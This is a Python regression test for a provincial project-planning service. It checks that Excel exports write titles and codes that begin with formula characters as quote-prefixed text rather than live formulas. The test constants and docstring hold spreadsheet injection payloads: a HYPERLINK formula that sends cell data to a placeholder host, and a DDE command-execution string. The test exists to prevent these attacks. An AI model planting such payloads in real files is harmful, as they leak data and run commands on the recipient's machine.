"""Issue 14 item 7: the .xlsx exports ran formulas.

The attack: a đề án titled ``=HYPERLINK("https://…?d="&A1,"Bấm xem")`` (a title is free text typed
by an implementing unit) reaches the planning service over the bus; the plan export and the view
export wrote it as a live formula, which Excel evaluates when an officer opens the file (sending
the sheet's data to the link, or worse with DDE payloads such as ``+cmd|' /C calc'!A0``).

Now every cell whose text a spreadsheet would evaluate (``= + - @``, tab, line break first) is a text
cell with Excel's quote prefix: read back, it is the title as typed, a string, not a formula.

Real parts: the planning service under uvicorn on this test's nats-server; the event is signed by
the province's key and published to its stream, as its appraisal relay would.
"""

from __future__ import annotations

import asyncio
import io
import time
from datetime import UTC, datetime
from uuid import uuid4

import httpx
import nats
import pytest
from kc_contracts import Envelope
from kc_contracts.appraisal_events import BudgetTotals, DeAnProposedV1
from kc_contracts.subjects import stream_name, subject_for
from kc_planning.main import create_app
from kc_runtime.bus.streams import StreamPlan, ensure_streams
from kc_runtime.settings import Settings
from kc_testing.fixtures import SettingsFactory, SigningPublisher, bearer, served
from openpyxl import load_workbook

TITLE = '=HYPERLINK("https://ke-gian.invalid/?d="&C5,"Bấm để xem hồ sơ")'
CODE = "+cmd|' /C calc'!A0"
UNIT = "@SUM(1+1)"


@pytest.fixture
def store() -> str:
    return "sqlite"


async def publish_proposal(settings: Settings) -> None:
    de_an = uuid4()
    event = DeAnProposedV1(
        de_an_id=de_an,
        code=CODE,
        title=TITLE,
        level="dia_phuong",
        de_an_type="kcdp",
        plan_year=2024,
        province_code="40",
        status="de_xuat",
        at=datetime(2023, 11, 25, tzinfo=UTC),
        actor="can-bo",
        activity_contents=["1"],
        implementing_unit=UNIT,
        budget=BudgetTotals(
            total_cost_vnd=90_000_000, support_requested_vnd=90_000_000, counterpart_vnd=0, other_vnd=0
        ),
        recommended_support_vnd=90_000_000,
        priority_rank=[1, 1, 1, 1],
    )
    envelope = Envelope.wrap(
        event, instance="tinh-40", service="appraisal", stream_id=de_an, stream_version=4, time=event.at
    )
    nc = await nats.connect(settings.nats_url)
    try:
        js = nc.jetstream()
        await ensure_streams(js, StreamPlan(("tinh-40", "bo")))
        await js.publish(
            subject_for("tinh-40", DeAnProposedV1),
            SigningPublisher.of(settings).sign(envelope),
            stream=stream_name("tinh-40"),
            headers={"Nats-Msg-Id": envelope.id},
        )
    finally:
        await nc.close()


def cells(xlsx: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(xlsx))  # formulas as formulas: not data_only
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


async def test_a_title_beginning_with_equals_is_exported_as_text_not_as_a_formula(
    make_settings: SettingsFactory,
) -> None:
    settings = make_settings("planning")
    await publish_proposal(settings)
    app = create_app(settings)
    with served(app) as base:
        async with httpx.AsyncClient(base_url=base, headers=bearer(settings), timeout=30) as http:
            deadline = time.monotonic() + 30
            while True:  # the proposal arrives over the bus: a plan line and a row of the view
                plan = await http.get("/plans/dia_phuong/2024/export.xlsx")
                view = await http.get("/views/export.xlsx", params={"year": 2024})
                if plan.status_code == 200 and TITLE in [c.value for c in cells(view.content)]:  # type: ignore[attr-defined]
                    break
                assert time.monotonic() < deadline, (plan.status_code, plan.text[:300])
                await asyncio.sleep(0.2)
    app.state.runtime.close()

    for name, export in (("plan", plan), ("view", view)):
        found = cells(export.content)
        formulas = [(c.coordinate, c.value) for c in found if c.data_type == "f"]  # type: ignore[attr-defined]
        assert formulas == [], f"{name} export has live formulas: {formulas}"
        typed = {c.value: c for c in found if c.value in (TITLE, CODE)}  # type: ignore[attr-defined]
        assert set(typed) == {TITLE, CODE}, f"{name} export: the title and code are not there as typed"
        for cell in typed.values():
            assert cell.data_type == "s", (name, cell.coordinate, cell.data_type)  # type: ignore[attr-defined]
            assert cell.quotePrefix, (name, cell.coordinate)  # type: ignore[attr-defined]
